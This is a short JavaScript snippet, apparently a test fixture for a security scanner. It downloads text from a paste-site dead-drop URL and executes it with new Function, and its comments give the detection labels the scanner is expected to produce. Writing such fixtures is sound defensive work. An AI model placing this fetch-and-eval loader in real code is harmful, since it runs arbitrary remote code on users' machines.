const load = async () => {
  const text = await (await fetch('https://pastebin.example/raw/k3Jd82')).text(); // expect: url-analyzer/dead-drop
  return new Function(text)(); // expect: malicious-command/remote-eval
};
load();
